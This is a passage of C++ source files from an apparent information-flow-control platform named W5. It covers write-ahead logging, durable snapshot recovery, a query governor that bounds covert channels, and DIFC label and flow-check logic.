    last_seq = entry.seq;
  }
  util::Status io = util::ok_status();
  if (!buf.empty()) {
    io = file_.write_all(buf);
    if (io.ok()) {
      if (append_bytes_ != nullptr) append_bytes_->inc(buf.size());
      if (batch_entries_ != nullptr)
        batch_entries_->observe(static_cast<std::int64_t>(batch.size()));
    }
  }

  const bool sync_now =
      options_.mode == DurabilityMode::kFsync ||
      (options_.mode == DurabilityMode::kInterval &&
       (force_fsync || steady_micros() - last_fsync_micros_ >=
                           options_.flush_interval_micros));
  bool synced = false;
  if (io.ok() && sync_now && (force_fsync || !buf.empty())) {
    const util::Micros start = steady_micros();
    io = file_.sync();
    last_fsync_micros_ = steady_micros();
    if (io.ok()) {
      synced = true;
      if (fsyncs_ != nullptr) fsyncs_->inc();
      if (fsync_micros_ != nullptr)
        fsync_micros_->observe(last_fsync_micros_ - start);
    }
  }

  const util::MutexLock lock(mutex_);
  if (!io.ok()) {
    // A failed write may have torn a frame mid-segment (ENOSPC cuts the
    // batch anywhere); a failed fsync means the kernel promises nothing
    // about this batch. Either way no sequence in or after this batch may
    // be acked: poison the log — never advance durable/flushed over a
    // hole the next replay will truncate at.
    fail_locked(io.error().code + ": " + io.error().detail);
    return;
  }
  segment_bytes_ += buf.size();
  if (last_seq != 0) written_seq_ = std::max(written_seq_, last_seq);
  // kFsync promises "durable" only after the fsync lands; the weaker
  // modes promise only write ordering, so written == durable for them.
  if (options_.mode != DurabilityMode::kFsync || synced)
    durable_seq_ = std::max(durable_seq_, written_seq_);
  // flush() completion: everything appended before the flush call has
  // been written (and fsynced in the modes that fsync).
  if (options_.mode == DurabilityMode::kNone || synced)
    flushed_seq_ = std::max(flushed_seq_, written_seq_);
  durable_cv_.notify_all();
}

}  // namespace w5::store
