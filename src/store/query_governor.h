// The §3.5 covert-channel governor (DESIGN.md §17).
//
// The paper's warning: even a clearance-bounded query surface leaks
// through aggregates — a malicious app can probe count() deltas, or
// drive many slightly-different queries and integrate the answers. Two
// measurable, configurable knobs bound those channels:
//
//   count quantization   count() results round UP to a multiple of
//                        `count_quantum`, so adjacent true counts n and
//                        n+1 are indistinguishable with probability
//                        (q-1)/q and one probe learns at most
//                        log2(ceil(max/q)+1) bits instead of log2(max+1).
//                        Quantum 1 (default) = exact counts.
//
//   per-principal budget at most `budget_queries` metered scans per
//                        principal per fixed `budget_window_micros`
//                        window; beyond that the store answers
//                        store.query_budget. Bounds the *rate* at which
//                        any quantized/filtered channel can be
//                        integrated. 0 (default) = unmetered.
//
// Both knobs are observable (QueryEngineStats) so E18 can measure the
// channel instead of hand-waving about it.
#pragma once

#include <atomic>
#include <cstdint>
#include <map>
#include <string>

#include "util/clock.h"
#include "util/result.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::store {

struct QueryGovernorConfig {
  std::size_t count_quantum = 1;      // 1 = exact counts
  std::uint64_t budget_queries = 0;   // per principal per window; 0 = off
  util::Micros budget_window_micros = 1'000'000;
};

class QueryGovernor {
 public:
  explicit QueryGovernor(const util::Clock& clock) : clock_(clock) {}

  QueryGovernor(const QueryGovernor&) = delete;
  QueryGovernor& operator=(const QueryGovernor&) = delete;

  void configure(const QueryGovernorConfig& config);

  // Meters one scan for `principal`. Anonymous scans (empty principal)
  // and an unconfigured budget admit without touching the lock.
  util::Status admit(const std::string& principal);

  // Rounds a count up to the configured quantum (lock-free).
  std::size_t quantize(std::size_t count) const;

  struct Stats {
    std::uint64_t admitted = 0;
    std::uint64_t denied = 0;
    std::size_t principals = 0;
    std::size_t count_quantum = 1;
    std::uint64_t budget_queries = 0;
  };
  Stats stats() const;

 private:
  // Fixed-window metering: simple, and the window boundary slop it
  // admits (up to 2x budget across one boundary) does not matter for a
  // rate bound. Expired windows are pruned opportunistically.
  struct Window {
    util::Micros start = 0;
    std::uint64_t used = 0;
  };
  static constexpr std::size_t kMaxPrincipals = 4096;

  const util::Clock& clock_;

  // Fast-path mirrors of the config (read per query without the lock).
  std::atomic<std::size_t> quantum_{1};
  std::atomic<std::uint64_t> budget_{0};

  mutable util::Mutex mutex_{util::lockrank::kQueryGovernor,
                              "QueryGovernor::mutex_"};
  util::Micros window_micros_ W5_GUARDED_BY(mutex_) = 1'000'000;
  std::map<std::string, Window> windows_ W5_GUARDED_BY(mutex_);
  std::uint64_t admitted_ W5_GUARDED_BY(mutex_) = 0;
  std::uint64_t denied_ W5_GUARDED_BY(mutex_) = 0;
};

}  // namespace w5::store
