#include "store/durable_store.h"

#include <chrono>

#include "util/log.h"

namespace w5::store {

namespace {

util::Micros steady_micros() {
  return std::chrono::duration_cast<std::chrono::microseconds>(
             std::chrono::steady_clock::now().time_since_epoch())
      .count();
}

}  // namespace

DurableStore::DurableStore(DurabilityConfig config,
                           util::MetricsRegistry* metrics)
    : config_(std::move(config)), metrics_(metrics) {
  if (metrics_ != nullptr) {
    checkpoints_ = &metrics_->counter("w5_wal_checkpoints_total");
    checkpoint_micros_ = &metrics_->histogram("w5_wal_checkpoint_micros");
  }
}

DurableStore::~DurableStore() { close(); }

util::Result<DurableStore::RecoveryStats> DurableStore::recover(
    const std::function<util::Status(const std::string& payload)>&
        restore_snapshot,
    const std::function<util::Status(const util::Json& op)>& apply) {
  const util::Micros start = steady_micros();
  RecoveryStats stats;

  auto loaded = load_latest_snapshot(config_.dir);
  if (!loaded.ok()) return loaded.error();
  std::uint64_t from_seq = 1;
  if (loaded.value().found) {
    if (auto status = restore_snapshot(loaded.value().payload); !status.ok())
      return status.error();
    stats.snapshot_loaded = true;
    stats.snapshot_boundary = loaded.value().boundary;
    from_seq = loaded.value().boundary;
  }

  auto replayed = WriteAheadLog::replay(
      config_.dir, from_seq,
      [&](std::uint64_t, const std::string& payload) -> util::Status {
        auto op = util::Json::parse(payload);
        if (!op.ok()) {
          // CRC said the frame is intact, so unparseable JSON is a writer
          // bug, not a torn tail — surface it rather than truncating.
          return util::make_error("wal.replay",
                                  "committed frame is not valid JSON");
        }
        return apply(op.value());
      },
      /*repair=*/true);
  if (!replayed.ok()) return replayed.error();
  stats.replayed_entries = replayed.value().entries;
  stats.last_seq = replayed.value().last_seq;
  stats.truncated_bytes = replayed.value().truncated_bytes;
  stats.tail_torn = replayed.value().tail_torn;

  WalOptions options;
  options.mode = config_.mode;
  options.flush_interval_micros = config_.flush_interval_micros;
  options.fault = config_.fault;
  options.metrics = metrics_;
  auto wal = WriteAheadLog::open(config_.dir, stats.last_seq + 1, options);
  if (!wal.ok()) return wal.error();
  wal_ = std::move(wal).value();
  last_checkpoint_boundary_.store(from_seq);

  compactor_ = std::thread([this] { compactor_main(); });

  stats.recovery_micros = steady_micros() - start;
  if (metrics_ != nullptr) {
    metrics_->counter("w5_wal_recovered_entries_total")
        .inc(stats.replayed_entries);
    metrics_->histogram("w5_wal_recovery_micros")
        .observe(stats.recovery_micros);
  }
  return stats;
}

void DurableStore::set_checkpoint_source(std::function<std::string()> fn) {
  const util::MutexLock lock(checkpoint_mutex_);
  checkpoint_source_ = std::move(fn);
}

std::uint64_t DurableStore::log(const util::Json& op) {
  if (wal_ == nullptr) return 0;
  return wal_->append(op.dump());
}

util::Status DurableStore::wait_durable(std::uint64_t seq) {
  // Before recover() the components are replaying history, not accepting
  // mutations; nothing to wait for. With a live WAL, seq 0 means the op
  // was refused — the WAL turns it into the right error.
  if (wal_ == nullptr) return util::ok_status();
  return wal_->wait_durable(seq);
}

util::Status DurableStore::checkpoint() {
  const util::MutexLock lock(checkpoint_mutex_);
  if (wal_ == nullptr)
    return util::make_error("wal.checkpoint", "durable store not recovered");
  if (!checkpoint_source_)
    return util::make_error("wal.checkpoint", "no checkpoint source set");

  const util::Micros start = steady_micros();
  // Rotate first: every seq < boundary is in closed, fsynced segments.
  // The snapshot is captured *after*, so its state covers at least those
  // sequences (possibly more — replay is idempotent, overlap is safe).
  const std::uint64_t boundary = wal_->rotate();
  if (boundary == 0) {
    return util::make_error("wal.checkpoint",
                            "rotation failed; WAL is failed or closed");
  }
  const std::string payload = checkpoint_source_();
  if (auto status = write_snapshot(config_.dir, boundary, payload,
                                   config_.fault);
      !status.ok())
    return status;
  // If the fault plan "crashed" mid-snapshot the machine is dead: no GC,
  // recovery must still find the previous snapshot + all segments.
  if (config_.fault.crashed()) return util::ok_status();
  if (auto status = wal_->remove_segments_below(boundary); !status.ok())
    return status;
  if (auto status = remove_stale_snapshots(config_.dir, boundary);
      !status.ok())
    return status;
  last_checkpoint_boundary_.store(boundary);
  if (checkpoints_ != nullptr) checkpoints_->inc();
  if (checkpoint_micros_ != nullptr)
    checkpoint_micros_->observe(steady_micros() - start);
  return util::ok_status();
}

util::Status DurableStore::flush() {
  if (wal_ == nullptr) return util::ok_status();
  return wal_->flush();
}

void DurableStore::close() {
  {
    const util::MutexLock lock(compactor_mutex_);
    if (closing_) return;
    closing_ = true;
  }
  compactor_cv_.notify_all();
  if (compactor_.joinable()) compactor_.join();
  if (wal_ != nullptr) wal_->close();
}

std::uint64_t DurableStore::last_seq() const {
  return wal_ != nullptr ? wal_->last_appended_seq() : 0;
}

void DurableStore::compactor_main() {
  const auto poll = std::chrono::microseconds(
      std::max<util::Micros>(config_.compactor_poll_micros, 1'000));
  util::UniqueLock lock(compactor_mutex_);
  while (!closing_) {
    compactor_cv_.wait_for(lock.native(), poll,
                           [&]() W5_REQUIRES(compactor_mutex_) { return closing_; });
    if (closing_ || config_.snapshot_every_entries == 0) continue;
    const std::uint64_t appended =
        wal_ != nullptr ? wal_->last_appended_seq() : 0;
    const std::uint64_t boundary = last_checkpoint_boundary_.load();
    if (appended + 1 < boundary + config_.snapshot_every_entries) continue;
    lock.unlock();
    if (auto status = checkpoint(); !status.ok()) {
      util::log_warn("wal: background checkpoint failed: ",
                     status.error().detail);
    }
    lock.lock();
  }
}

}  // namespace w5::store
