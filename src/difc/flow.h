// Information-flow checks between labeled entities (Flume §3.2).
//
// The invariant the whole W5 security story rests on (paper §3.1): data
// tagged with secrecy t reaches only processes whose S contains t, and an
// entity writes to another only when the writer's integrity dominates the
// target's requirement. Everything else — the perimeter, declassifiers,
// write protection — is policy layered over these two subset checks.
#pragma once

#include <string>

#include "difc/label.h"
#include "difc/label_state.h"
#include "util/result.h"

namespace w5::difc {

// Labels on a passive entity (file, store record, message, HTTP response).
struct ObjectLabels {
  Label secrecy;
  Label integrity;

  std::string to_string() const {
    return "S=" + secrecy.to_string() + " I=" + integrity.to_string();
  }

  friend bool operator==(const ObjectLabels&, const ObjectLabels&) = default;
};

// Message flow source → sink: S_src ⊆ S_dst and I_dst ⊆ I_src.
bool can_flow(const Label& src_secrecy, const Label& src_integrity,
              const Label& dst_secrecy, const Label& dst_integrity);

util::Status check_flow(const LabelState& source, const LabelState& sink);

// Process p reads object o: o's secrets must fit in S_p, and p's integrity
// requirement (I_p) must be met by o (I_p ⊆ I_o).
util::Status check_read(const LabelState& process, const ObjectLabels& object);

// Process p writes object o: additionally p must not leak (S_p ⊆ S_o) and
// must carry o's required endorsements (I_o ⊆ I_p).
util::Status check_write(const LabelState& process,
                         const ObjectLabels& object);

// Export across the security perimeter: the destination (a browser, a
// peer provider) is unlabeled, so the writer's secrecy must be empty —
// unless privilege held by `authority` can declassify the residue. This is
// exactly the check the W5 gateway applies to every outbound byte.
util::Status check_export(const Label& data_secrecy,
                          const CapabilitySet& authority);

// Convenience used throughout the platform: the label a derived object
// must carry after computing over inputs — the join (union) of inputs.
ObjectLabels join(const ObjectLabels& a, const ObjectLabels& b);

}  // namespace w5::difc
