#include "difc/flow.h"

#include "difc/label_table.h"

namespace w5::difc {

bool can_flow(const Label& src_secrecy, const Label& src_integrity,
              const Label& dst_secrecy, const Label& dst_integrity) {
  return cached_subset(src_secrecy, dst_secrecy) &&
         cached_subset(dst_integrity, src_integrity);
}

util::Status check_flow(const LabelState& source, const LabelState& sink) {
  if (!source.secrecy().subset_of(sink.secrecy())) {
    return util::make_error(
        "flow.denied", "secrecy " + source.secrecy().to_string() +
                           " cannot flow to " + sink.secrecy().to_string());
  }
  if (!sink.integrity().subset_of(source.integrity())) {
    return util::make_error(
        "flow.denied",
        "sink integrity " + sink.integrity().to_string() +
            " not dominated by source " + source.integrity().to_string());
  }
  return util::ok_status();
}

util::Status check_read(const LabelState& process,
                        const ObjectLabels& object) {
  if (!object.secrecy.subset_of(process.secrecy())) {
    return util::make_error(
        "flow.denied", "read: object secrecy " + object.secrecy.to_string() +
                           " exceeds process " +
                           process.secrecy().to_string());
  }
  if (!process.integrity().subset_of(object.integrity)) {
    return util::make_error(
        "flow.denied",
        "read: object integrity " + object.integrity.to_string() +
            " below process requirement " + process.integrity().to_string());
  }
  return util::ok_status();
}

util::Status check_write(const LabelState& process,
                         const ObjectLabels& object) {
  if (!process.secrecy().subset_of(object.secrecy)) {
    return util::make_error(
        "flow.denied", "write: process secrecy " +
                           process.secrecy().to_string() +
                           " would leak into object labeled " +
                           object.secrecy.to_string());
  }
  if (!object.integrity.subset_of(process.integrity())) {
    return util::make_error(
        "flow.denied", "write: object requires integrity " +
                           object.integrity.to_string() +
                           " but process carries " +
                           process.integrity().to_string());
  }
  return util::ok_status();
}

util::Status check_export(const Label& data_secrecy,
                          const CapabilitySet& authority) {
  if (data_secrecy.empty()) return util::ok_status();  // nothing to leak
  // Common case: the exact (label, authority) pair was decided before —
  // residue emptiness is equivalent to data_secrecy ⊆ removable, which
  // the memo answers in O(1). The deny path re-materializes the residue
  // so the audit log names the blocking tags; denials are the rare case.
  const Label removable = authority.removable();
  if (cached_subset(data_secrecy, removable)) return util::ok_status();
  const Label residue = data_secrecy.subtract(removable);
  return util::make_error(
      "perimeter.denied",
      "export blocked: no declassification authority for " +
          residue.to_string());
}

ObjectLabels join(const ObjectLabels& a, const ObjectLabels& b) {
  return ObjectLabels{a.secrecy.union_with(b.secrecy),
                      a.integrity.intersect_with(b.integrity)};
}

}  // namespace w5::difc
