#include "difc/tag.h"

namespace w5::difc {

std::string to_string(Tag tag) {
  return "t" + std::to_string(tag.id());
}

}  // namespace w5::difc
