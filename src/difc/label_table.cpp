#include "difc/label_table.h"

#include <algorithm>

namespace w5::difc {

LabelTable& LabelTable::instance() {
  static LabelTable table;
  return table;
}

LabelId LabelTable::intern(const Label& label) {
  if (label.empty()) return kEmptyLabelId;
  {
    const util::ReadLock lock(mutex_);
    const auto it = ids_.find(label);
    if (it != ids_.end()) return it->second;
  }
  const util::WriteLock lock(mutex_);
  if (ids_.size() >= kMaxEntries) {
    // Reset rather than evict: ids are dense handles, not stable names.
    // The epoch bump invalidates every memoized verdict keyed by them.
    ids_.clear();
    next_id_ = 1;
    ++epoch_;
    FlowCache::instance().clear();
  }
  const auto [it, inserted] = ids_.try_emplace(label, next_id_);
  if (inserted) ++next_id_;
  return it->second;
}

bool cached_subset(const Label& a, const Label& b) {
  if (a.empty()) return true;
  if (a.size() > b.size()) return false;
  auto& table = LabelTable::instance();
  const LabelId src = table.intern(a);
  const LabelId dst = table.intern(b);
  if (src == dst) return true;  // identical labels: X ⊆ X
  auto& cache = FlowCache::instance();
  if (const auto hit = cache.lookup(src, dst)) return *hit;
  const bool verdict = a.subset_of(b);
  cache.insert(src, dst, verdict);
  return verdict;
}

void LabelTable::invalidate() {
  {
    const util::WriteLock lock(mutex_);
    ids_.clear();
    next_id_ = 1;
    ++epoch_;
  }
  FlowCache::instance().clear();
}

std::uint64_t LabelTable::epoch() const {
  const util::ReadLock lock(mutex_);
  return epoch_;
}

std::size_t LabelTable::size() const {
  const util::ReadLock lock(mutex_);
  return ids_.size();
}

FlowCache& FlowCache::instance() {
  static FlowCache cache;
  return cache;
}

namespace {

std::uint64_t pair_key(LabelId src, LabelId dst) {
  return (static_cast<std::uint64_t>(src) << 32) | dst;
}

}  // namespace

std::optional<bool> FlowCache::lookup(LabelId src, LabelId dst) const {
  const std::uint64_t epoch = LabelTable::instance().epoch();
  const util::MutexLock lock(mutex_);
  const auto it = entries_.find(pair_key(src, dst));
  if (it == entries_.end() || it->second.epoch != epoch) {
    ++misses_;
    return std::nullopt;
  }
  ++hits_;
  return it->second.verdict;
}

void FlowCache::insert(LabelId src, LabelId dst, bool verdict) {
  const std::uint64_t epoch = LabelTable::instance().epoch();
  const util::MutexLock lock(mutex_);
  if (entries_.size() >= kCapacity) {
    // Evict the oldest quarter by insertion stamp — amortized O(1) per
    // insert, and old-epoch leftovers go first by construction.
    std::vector<std::pair<std::uint64_t, std::uint64_t>> order;  // (stamp, key)
    order.reserve(entries_.size());
    for (const auto& [key, entry] : entries_)
      order.emplace_back(entry.order, key);
    std::nth_element(order.begin(), order.begin() + order.size() / 4,
                     order.end());
    for (std::size_t i = 0; i < order.size() / 4; ++i)
      entries_.erase(order[i].second);
  }
  entries_[pair_key(src, dst)] = Entry{verdict, epoch, next_order_++};
}

void FlowCache::clear() {
  const util::MutexLock lock(mutex_);
  entries_.clear();
  ++invalidations_;
}

std::size_t FlowCache::size() const {
  const util::MutexLock lock(mutex_);
  return entries_.size();
}

std::uint64_t FlowCache::hits() const {
  const util::MutexLock lock(mutex_);
  return hits_;
}

std::uint64_t FlowCache::misses() const {
  const util::MutexLock lock(mutex_);
  return misses_;
}

std::uint64_t FlowCache::invalidations() const {
  const util::MutexLock lock(mutex_);
  return invalidations_;
}

}  // namespace w5::difc
