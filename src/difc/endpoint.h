// Endpoints (Flume §3.3): the seam where a process meets a channel.
//
// A process p communicates through endpoints. An endpoint e carries its
// own labels (S_e, I_e); e is *safe* for p iff p could legally change its
// labels to e's — so privilege in O_p can be exercised at a single channel
// (a declassifier's export socket) without globally lowering p's label.
// Messages between two endpoints are checked with endpoint labels.
#pragma once

#include <string>

#include "difc/flow.h"
#include "difc/label_state.h"

namespace w5::difc {

class Endpoint {
 public:
  // Modes mirror Flume's endpoint variants plus Asbestos-style auto-raise
  // for reader ergonomics (DESIGN.md §3.1):
  //   kFixed     — endpoint labels used exactly as given.
  //   kAutoRaise — on receive, S_e floats up to admit the incoming
  //                message when the raise is safe for the owner.
  enum class Mode { kFixed, kAutoRaise };

  Endpoint() = default;
  Endpoint(Label secrecy, Label integrity, Mode mode = Mode::kFixed)
      : secrecy_(std::move(secrecy)),
        integrity_(std::move(integrity)),
        mode_(mode) {}

  const Label& secrecy() const noexcept { return secrecy_; }
  const Label& integrity() const noexcept { return integrity_; }
  Mode mode() const noexcept { return mode_; }

  // Safety: the owner could re-label itself to this endpoint's labels.
  bool safe_for(const LabelState& owner) const;

  // Send from this endpoint (owned by `owner`) into a sink endpoint.
  // Returns flow.denied / endpoint.unsafe errors as appropriate.
  util::Status check_send(const LabelState& owner, const Endpoint& sink,
                          const LabelState& sink_owner) const;

  // Receive hook: for kAutoRaise, widens this endpoint's secrecy to admit
  // `message_secrecy` if that stays safe for `owner`.
  util::Status admit(const LabelState& owner, const Label& message_secrecy);

  std::string to_string() const;

 private:
  Label secrecy_;
  Label integrity_;
  Mode mode_ = Mode::kFixed;
};

}  // namespace w5::difc
