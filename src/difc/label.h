// Labels: finite sets of tags forming a lattice under ⊆ (Flume model).
//
// A secrecy label S on data means "everyone who has seen this data is
// contaminated by every t ∈ S". An integrity label I means "this data has
// been endorsed by the authority behind every t ∈ I". Immutable value
// type; set operations return new labels.
#pragma once

#include <initializer_list>
#include <string>
#include <vector>

#include "difc/tag.h"

namespace w5::difc {

class Label {
 public:
  Label() = default;
  Label(std::initializer_list<Tag> tags);
  explicit Label(std::vector<Tag> tags);  // sorts and dedups

  bool empty() const noexcept { return tags_.empty(); }
  std::size_t size() const noexcept { return tags_.size(); }
  bool contains(Tag tag) const;

  // Lattice operations.
  bool subset_of(const Label& other) const;          // this ⊆ other
  bool overlaps(const Label& other) const;           // this ∩ other ≠ ∅
  Label union_with(const Label& other) const;        // this ∪ other
  Label intersect_with(const Label& other) const;    // this ∩ other
  Label subtract(const Label& other) const;          // this − other
  Label with(Tag tag) const;                         // this ∪ {t}
  Label without(Tag tag) const;                      // this − {t}

  const std::vector<Tag>& tags() const noexcept { return tags_; }

  std::string to_string() const;  // "{t3,t7}" — for audit logs and tests

  friend bool operator==(const Label&, const Label&) = default;

  // Total order so labels can key ordered containers (deterministic
  // snapshots); not the lattice order.
  friend bool operator<(const Label& a, const Label& b) {
    return a.tags_ < b.tags_;
  }

 private:
  std::vector<Tag> tags_;  // sorted, unique
};

}  // namespace w5::difc
