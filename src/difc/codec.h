// JSON codecs for DIFC values — labels travel in snapshots (store
// persistence) and over the federation wire protocol, so the encoding must
// be deterministic and round-trip exactly.
#pragma once

#include "difc/capability.h"
#include "difc/flow.h"
#include "difc/label.h"
#include "util/json.h"
#include "util/result.h"

namespace w5::difc {

util::Json label_to_json(const Label& label);
util::Result<Label> label_from_json(const util::Json& j);

util::Json object_labels_to_json(const ObjectLabels& labels);
util::Result<ObjectLabels> object_labels_from_json(const util::Json& j);

util::Json capability_set_to_json(const CapabilitySet& caps);
util::Result<CapabilitySet> capability_set_from_json(const util::Json& j);

}  // namespace w5::difc
