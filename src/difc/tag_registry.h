// Tag allocation and metadata.
//
// The registry is part of the provider's trusted base: it mints fresh
// tags, remembers what each is for (debugging/audit only — the DIFC rules
// never consult metadata), and serializes to JSON so the provider can
// persist label meaning across restarts.
#pragma once

#include <cstdint>
#include <optional>
#include <shared_mutex>
#include <string>
#include <unordered_map>
#include <vector>

#include "difc/tag.h"
#include "util/json.h"
#include "util/mutation_log.h"
#include "util/result.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::difc {

// Why a tag exists; purely descriptive.
enum class TagPurpose : std::uint8_t {
  kSecrecy,       // export protection (sec(u), per-object secrets)
  kIntegrity,     // write protection / endorsement (wp(u))
  kReadProtect,   // read protection (rp(u))
  kOther,
};

std::string to_string(TagPurpose purpose);
std::optional<TagPurpose> tag_purpose_from_string(std::string_view s);

struct TagInfo {
  std::string name;     // e.g. "sec(bob)"
  TagPurpose purpose = TagPurpose::kOther;
  std::string owner;    // principal that requested the tag (user/app id)
};

// Thread-safe: minting and lookups may race between request workers.
// Every mutation (create, restore-assignment) invalidates the flow-check
// memo — tag ids may be reused across snapshot restores, so cached
// verdicts keyed by interned labels must not survive a registry change.
class TagRegistry {
 public:
  TagRegistry() = default;
  TagRegistry(TagRegistry&& other) noexcept;
  TagRegistry& operator=(TagRegistry&& other) noexcept;

  Tag create(std::string name, TagPurpose purpose, std::string owner = {});

  // Pointer stays valid for the registry's lifetime (infos are never
  // erased); the pointed-to record is immutable after creation.
  const TagInfo* find(Tag tag) const;

  // Human-readable name with fallback to "t<id>"; for audit records.
  std::string describe(Tag tag) const;

  std::size_t size() const;

  // All registered tags (unspecified order).
  std::vector<Tag> all() const;

  // Serialization is sorted by tag id so snapshot bytes are deterministic
  // (the durability plane checksums and compares them across runs).
  util::Json to_json() const;
  static util::Result<TagRegistry> from_json(const util::Json& j);

  // ---- Durability (DESIGN.md §13) -------------------------------------------
  // Minting is a mutation: with a log attached, create() publishes a
  // tag.create op (explicit id) and waits for it per the log's mode.
  // Move-assignment (snapshot restore) keeps the *destination's* log —
  // restored registries are built without one.
  void set_mutation_log(util::MutationLog* log) { mutation_log_ = log; }

  // TRUSTED replay apply: re-mints the exact id, bumps next_id_ past it,
  // and flushes the flow-check memo. Idempotent.
  util::Status apply_wal(const util::Json& op);

 private:
  mutable util::SharedMutex mutex_{util::lockrank::kTagRegistry,
                                    "TagRegistry::mutex_"};
  std::uint64_t next_id_ W5_GUARDED_BY(mutex_) = 1;  // 0 reserved as invalid
  std::unordered_map<Tag, TagInfo> info_ W5_GUARDED_BY(mutex_);
  util::MutationLog* mutation_log_ = nullptr;  // set once at wiring time
};

}  // namespace w5::difc
