#include "difc/codec.h"

namespace w5::difc {

util::Json label_to_json(const Label& label) {
  util::Json out = util::Json::array();
  for (Tag tag : label.tags()) out.push_back(tag.id());
  return out;
}

util::Result<Label> label_from_json(const util::Json& j) {
  if (!j.is_array()) return util::make_error("difc.parse", "label not array");
  std::vector<Tag> tags;
  tags.reserve(j.as_array().size());
  for (const auto& item : j.as_array()) {
    const auto id = item.as_int(0);
    if (id <= 0) return util::make_error("difc.parse", "bad tag id");
    tags.emplace_back(static_cast<std::uint64_t>(id));
  }
  return Label(std::move(tags));
}

util::Json object_labels_to_json(const ObjectLabels& labels) {
  util::Json out;
  out["secrecy"] = label_to_json(labels.secrecy);
  out["integrity"] = label_to_json(labels.integrity);
  return out;
}

util::Result<ObjectLabels> object_labels_from_json(const util::Json& j) {
  auto secrecy = label_from_json(j.at("secrecy"));
  if (!secrecy.ok()) return secrecy.error();
  auto integrity = label_from_json(j.at("integrity"));
  if (!integrity.ok()) return integrity.error();
  return ObjectLabels{std::move(secrecy).value(),
                      std::move(integrity).value()};
}

util::Json capability_set_to_json(const CapabilitySet& caps) {
  util::Json out = util::Json::array();
  for (const auto& cap : caps.capabilities()) {
    util::Json entry;
    entry["tag"] = cap.tag.id();
    entry["sign"] = cap.sign == CapSign::kPlus ? "+" : "-";
    out.push_back(std::move(entry));
  }
  return out;
}

util::Result<CapabilitySet> capability_set_from_json(const util::Json& j) {
  if (!j.is_array()) return util::make_error("difc.parse", "caps not array");
  std::vector<Capability> caps;
  for (const auto& entry : j.as_array()) {
    const auto id = entry.at("tag").as_int(0);
    const auto& sign = entry.at("sign").as_string();
    if (id <= 0 || (sign != "+" && sign != "-"))
      return util::make_error("difc.parse", "bad capability");
    caps.push_back({Tag(static_cast<std::uint64_t>(id)),
                    sign == "+" ? CapSign::kPlus : CapSign::kMinus});
  }
  return CapabilitySet(std::move(caps));
}

}  // namespace w5::difc
