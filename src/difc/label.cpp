#include "difc/label.h"

#include <algorithm>

namespace w5::difc {

Label::Label(std::initializer_list<Tag> tags)
    : Label(std::vector<Tag>(tags)) {}

Label::Label(std::vector<Tag> tags) : tags_(std::move(tags)) {
  std::sort(tags_.begin(), tags_.end());
  tags_.erase(std::unique(tags_.begin(), tags_.end()), tags_.end());
}

bool Label::contains(Tag tag) const {
  return std::binary_search(tags_.begin(), tags_.end(), tag);
}

bool Label::subset_of(const Label& other) const {
  // ∅ ⊆ anything, and a bigger set never fits inside a smaller one —
  // both checks are free and cover the dominant cases on the flow-check
  // hot path (most labels are empty or a single user tag).
  if (tags_.empty()) return true;
  if (tags_.size() > other.tags_.size()) return false;
  return std::includes(other.tags_.begin(), other.tags_.end(), tags_.begin(),
                       tags_.end());
}

bool Label::overlaps(const Label& other) const {
  // Linear merge walk; callers previously materialized intersect_with()
  // just to call empty() on the result.
  auto a = tags_.begin();
  auto b = other.tags_.begin();
  while (a != tags_.end() && b != other.tags_.end()) {
    if (*a == *b) return true;
    if (*a < *b) {
      ++a;
    } else {
      ++b;
    }
  }
  return false;
}

Label Label::union_with(const Label& other) const {
  Label out;
  out.tags_.reserve(tags_.size() + other.tags_.size());
  std::set_union(tags_.begin(), tags_.end(), other.tags_.begin(),
                 other.tags_.end(), std::back_inserter(out.tags_));
  return out;
}

Label Label::intersect_with(const Label& other) const {
  Label out;
  out.tags_.reserve(std::min(tags_.size(), other.tags_.size()));
  std::set_intersection(tags_.begin(), tags_.end(), other.tags_.begin(),
                        other.tags_.end(), std::back_inserter(out.tags_));
  return out;
}

Label Label::subtract(const Label& other) const {
  Label out;
  out.tags_.reserve(tags_.size());
  std::set_difference(tags_.begin(), tags_.end(), other.tags_.begin(),
                      other.tags_.end(), std::back_inserter(out.tags_));
  return out;
}

Label Label::with(Tag tag) const {
  if (contains(tag)) return *this;
  Label out = *this;
  out.tags_.insert(
      std::lower_bound(out.tags_.begin(), out.tags_.end(), tag), tag);
  return out;
}

Label Label::without(Tag tag) const {
  Label out = *this;
  const auto it =
      std::lower_bound(out.tags_.begin(), out.tags_.end(), tag);
  if (it != out.tags_.end() && *it == tag) out.tags_.erase(it);
  return out;
}

std::string Label::to_string() const {
  std::string out = "{";
  for (std::size_t i = 0; i < tags_.size(); ++i) {
    if (i > 0) out.push_back(',');
    out += difc::to_string(tags_[i]);
  }
  out.push_back('}');
  return out;
}

}  // namespace w5::difc
