// Label interning and the flow-check memo (the DIFC hot-path cache).
//
// Every gateway export and most kernel flow checks compare the same few
// labels over and over: S = {sec(u)} against the declassification
// authority {sec(u)-}. Interning sorted tag vectors into small integer
// ids makes "have we decided this exact pair before?" a single hash
// probe, so the perimeter check is O(1) in the common case instead of a
// fresh set walk per request.
//
// Soundness: a cached verdict is pure set arithmetic over immutable tag
// ids — it can never go stale on its own. What CAN change is the
// *meaning* of an id across registry reloads (snapshot restore reuses tag
// ids) and the privilege environment the caller derived its authority
// label from. Both paths call invalidate(), which bumps a global epoch;
// entries from older epochs are treated as misses. The memo caches only
// (label-id, label-id) → bool subset verdicts — never declassifier
// decisions, which are policy and may depend on viewer, time, or rate.
#pragma once

#include <cstdint>
#include <map>
#include <mutex>
#include <optional>
#include <shared_mutex>
#include <unordered_map>

#include "difc/label.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::difc {

using LabelId = std::uint32_t;

// Id 0 is reserved for the empty label so the fast path can test it
// without a table probe.
inline constexpr LabelId kEmptyLabelId = 0;

// Process-wide intern table: equal labels share an id. Bounded — when the
// table would exceed its cap it resets and bumps the epoch, which also
// flushes the FlowCache (ids are only meaningful within one epoch).
class LabelTable {
 public:
  static LabelTable& instance();

  LabelId intern(const Label& label);

  // Bumps the epoch: all previously issued ids and memoized verdicts
  // become stale. Called on tag-registry changes and privilege changes.
  void invalidate();

  std::uint64_t epoch() const;
  std::size_t size() const;

  static constexpr std::size_t kMaxEntries = 1 << 16;

 private:
  LabelTable() = default;

  mutable util::SharedMutex mutex_{util::lockrank::kLabelTable,
                                    "LabelTable::mutex_"};
  std::map<Label, LabelId> ids_ W5_GUARDED_BY(mutex_);
